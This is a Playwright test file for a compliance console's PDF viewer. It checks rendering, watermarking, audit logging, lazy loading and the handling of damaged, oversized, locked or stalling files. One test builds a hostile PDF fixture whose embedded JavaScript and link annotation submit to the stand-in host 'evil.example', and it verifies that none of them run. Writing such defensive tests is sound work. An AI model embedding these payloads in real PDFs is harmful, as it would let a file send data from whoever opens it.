/**
 * A PDF in the console, in a real browser: it is drawn on a canvas under the page's own policy, with a mark; a hostile one harms nothing
 * and says what is wrong; and nothing of pdf.js is loaded before one is opened.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { Browser, Page } from 'playwright-core';
import { openCase } from '../../src/compliance/index.ts';
import { buildConsole, CONSOLE } from '../../src/console/index.ts';
import type { Person } from '../protocols/operator/people.ts';
import { noChromium, startChromium } from '../support/chromium.ts';
import { openStory, type Story } from '../support/story.ts';
import { until } from '../support/until.ts';
import { type Desk, deskOf, formOn, isGood } from './window.ts';

const MOST_FIRST_BYTES = 200 * 1024;

interface PageOf {
  content: string;
  box?: string;
  more?: string;
}

/** A PDF with a table of its objects. @param catalog further entries of the catalogue, such as a script that runs when it is opened */
function pdfOf(pages: readonly PageOf[], catalog = '', more: readonly string[] = []): Buffer {
  const first = 4;
  const kids = pages.map((_, at) => `${first + 2 * at} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${kids}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...pages.flatMap(({ content, box = '0 0 595 842', more: entries = '' }, at) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Resources << /Font << /F1 3 0 R >> >> /Contents ${first + 2 * at + 1} 0 R ${entries} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ]),
    ...more,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
  return Buffer.from(
    `${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
    'latin1',
  );
}
const says = (words: string, colour: string): PageOf => ({
  content: `${colour} rg 0 421 595 421 re f 0 g BT /F1 48 Tf 60 200 Td (${words}) Tj ET`,
});
const RED = '0.8 0 0';
const BLUE = '0 0 0.8';
const LETTER = pdfOf([says('First page', RED), says('Second page', BLUE)]);

describe('a PDF in the console', { skip: noChromium }, () => {
  let world: Story;
  let browser: Browser;
  let ada: Desk & { person: Person };
  let page: Page;
  let form: ReturnType<typeof formOn>;
  let caseId = '';
  const asked: string[] = [];

  before(async () => {
    assert.equal(await buildConsole(() => {}), undefined);
    world = await openStory({ operators: 'two' });
    const origin = world.server.baseUrl.replace('127.0.0.1', 'localhost');
    browser = await startChromium();
    const { db, baseUrl } = world.server;
    ada = await deskOf(browser, origin, { db, baseUrl, clock: world.clock }, 'ada');
    page = ada.page;
    form = formOn(page);
    page.on('request', (request) => asked.push(new URL(request.url()).pathname));
    await db.asSystem((tx) =>
      openCase(tx, {
        ...{ kind: 'uncovered', subject: 'rail:evm.matic20', reason: 'more left than was there' },
        ...{ facts: {}, now: world.clock.now() },
      }),
    );
    const { cases } = (await ada.person.reads('/cases?kind=uncovered')).body;
    caseId = cases[0].id;
    await page.goto(`${origin}/console/cases/${caseId}`);
    await panel()
      .getByLabel('File', { exact: true })
      .setInputFiles({
        ...{ name: 'letter.pdf', mimeType: 'application/pdf', buffer: LETTER },
      });
    await panel().getByLabel('Reason').fill('it came by mail');
    await panel().getByRole('button', { name: 'Attach' }).click();
    await panel().getByRole('button', { name: 'Look at: letter.pdf' }).waitFor();
  });
  after(async () => {
    await browser?.close();
    await world?.close();
  });

  const panel = () => page.getByRole('region', { name: 'Attachments' });
  const looks = async () => {
    await form.opens('Look at: letter.pdf');
    await form.sends('what does it say');
  };
  const hides = () => panel().getByRole('button', { name: 'Hide: letter.pdf' }).click();
  const isDrawn = (number: number, of: number) =>
    panel()
      .getByRole('img', { name: `letter.pdf, page ${number} of ${of}` })
      .waitFor();
  /** Colour at a part of the canvas, from its top left. */
  const colourAt = (x: number, y: number) =>
    page.evaluate(`(() => {
      const canvas = document.querySelector('.pdf canvas');
      const at = canvas.getContext('2d').getImageData(canvas.width * ${x}, canvas.height * ${y}, 1, 1);
      return [...at.data].slice(0, 3).join(' ');
    })()`);
  const dark = () =>
    page.evaluate(`(() => {
      const canvas = document.querySelector('.pdf canvas');
      const { data } = canvas.getContext('2d').getImageData(0, canvas.height * 0.6, canvas.width, canvas.height * 0.2);
      let count = 0;
      for (let at = 0; at < data.length; at += 4) if (data[at] < 64) count += 1;
      return count;
    })()`) as Promise<number>;
  /** Opens a file of these bytes in the place of the attached one. */
  async function opens(body: Buffer): Promise<void> {
    await page.route('**/attachments/*/open', (route) =>
      route.fulfill({
        ...{ status: 200, contentType: 'application/pdf', body },
        headers: { 'content-disposition': 'attachment; filename="case-1-00000000.pdf"' },
      }),
    );
    await looks();
    await panel().locator('.pdf').waitFor();
    await page.unroute('**/attachments/*/open');
  }

  test('is drawn page by page with its text and a mark, and every look is in the audit', async () => {
    assert.deepEqual(
      asked.filter((path) => path.includes('pdfjs')),
      [],
      'pdf.js is loaded before a PDF is opened',
    );
    await looks();
    await isDrawn(1, 2);
    assert.equal(await colourAt(0.5, 0.25), '204 0 0');
    assert.ok((await dark()) > 5_000, 'the text in a font that the file does not contain is missing');
    assert.match(
      String(await panel().locator('.marked').getAttribute('data-mark')),
      /^ada \d{4}-\d\d-\d\d \d\d:\d\d UTC$/,
    );
    await isGood(page, await page.locator('h1').innerText(), 'Case with a PDF');
    await panel().getByRole('button', { name: 'Next page' }).click();
    await isDrawn(2, 2);
    assert.equal(await colourAt(0.5, 0.25), '0 0 204');
    assert.ok(await panel().getByRole('button', { name: 'Next page' }).isDisabled());
    await hides();
    assert.equal(await panel().locator('canvas').count(), 0);
    await looks();
    await isDrawn(1, 2);
    await hides();
    const { audit } = (await ada.person.reads(`/audit?subject=case:${caseId}`)).body;
    assert.equal(audit.filter(({ action }: Record<string, string>) => action === 'case.attachment').length, 2);
    assert.ok(asked.some((path) => path.endsWith('/pdf.worker.js')));
  });

  test('with scripts, links and forms runs none of them', async () => {
    const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>';
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>';
    const hostile = pdfOf(
      [{ ...says('Look', RED), more: `/AA << /O ${script} >> /Annots [${link}]` }],
      `/OpenAction ${script} /AA << /WC ${script} >>`,
    );
    await opens(hostile);
    await isDrawn(1, 1);
    assert.equal(await colourAt(0.5, 0.25), '204 0 0');
    assert.equal(await panel().locator('.pdf :is(a, form, iframe, object, embed, script)').count(), 0);
    const where = page.url();
    await panel().locator('canvas').click();
    assert.equal(page.url(), where);
    await hides();
  });

  test('of a page as large as a house, or of more than a thousand pages, is drawn within bounds', async () => {
    await opens(pdfOf([{ content: `${RED} rg 0 0 2000000 2000000 re f`, box: '0 0 2000000 1000000' }]));
    await isDrawn(1, 1);
    assert.equal(await colourAt(0.5, 0.5), '204 0 0');
    const size = 'document.querySelector(".pdf canvas").width + "x" + document.querySelector(".pdf canvas").height';
    assert.equal(await page.evaluate(size), '1800x900');
    await hides();
    await opens(pdfOf(Array.from({ length: 1_500 }, () => says('Again', BLUE))));
    await isDrawn(1, 1_500);
    assert.equal(await panel().locator('canvas').count(), 1);
    await hides();
  });

  test('that is cut off, damaged, empty or locked says so, and can be saved', async () => {
    for (const [bytes, words] of [
      [Buffer.from('%PDF-1.7\nnothing of it is true'), /It is damaged: it cannot be read as a PDF\./],
      [LETTER.subarray(0, 120), /It (is damaged|cannot be drawn)/],
      [pdfOf([]), /It (has no page|is damaged|cannot be drawn)/i],
      [
        Buffer.from(
          LETTER.toString('latin1').replace(
            '/Root 1 0 R',
            `/Root 1 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]
              /Encrypt << /Filter /Standard /V 1 /R 2 /P -1 /O <${'1f'.repeat(32)}> /U <${'2e'.repeat(32)}> >>`,
          ),
          'latin1',
        ),
        /It is protected by a password\./,
      ],
    ] as const) {
      await opens(bytes);
      const alert = panel().getByRole('alert');
      await alert.waitFor();
      assert.match(await alert.innerText(), words);
      await panel().locator('.pdf').getByRole('button', { name: 'Save letter.pdf' }).waitFor();
      if (words.source.includes('password'))
        await isGood(page, await page.locator('h1').innerText(), 'Case with a locked PDF');
      await hides();
    }
  });

  test('that keeps the worker busy is stopped, and the page goes on', async () => {
    await page.route('**/pdf.worker.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'for (;;);' }),
    );
    await opens(LETTER);
    await until('it is stopped', async () => (await panel().getByRole('alert').count()) === 1, { withinMs: 60_000 });
    assert.match(await panel().getByRole('alert').innerText(), /It took more than 20 seconds, and was stopped\./);
    await page.unroute('**/pdf.worker.js');
    await hides();
    await looks();
    await isDrawn(1, 2);
  });

  test('asks no other origin, and runs into no policy and no error', () =>
    // This test reads the canvas, and Chromium remarks on it.
    assert.deepEqual(
      ada.amiss.filter((message) => !message.includes('willReadFrequently')),
      [],
    ));
});

describe('the files of the console', () => {
  before(async () => assert.equal(await buildConsole(() => {}), undefined));

  test('that are loaded first have less than 200 kB compressed', () => {
    const dist = join(CONSOLE, 'dist');
    const html = readFileSync(join(dist, 'index.html'), 'utf8');
    const first = [...html.matchAll(/(?:src|href)="\/console\/(assets\/[^"]+\.(?:js|css))"/g)].map(
      ([, name = '']) => name,
    );
    assert.ok(first.length >= 2, html);
    const bytes = first.reduce((sum, name) => sum + gzipSync(readFileSync(join(dist, name))).length, 0);
    assert.ok(bytes < MOST_FIRST_BYTES, `${bytes} bytes`);
  });
});
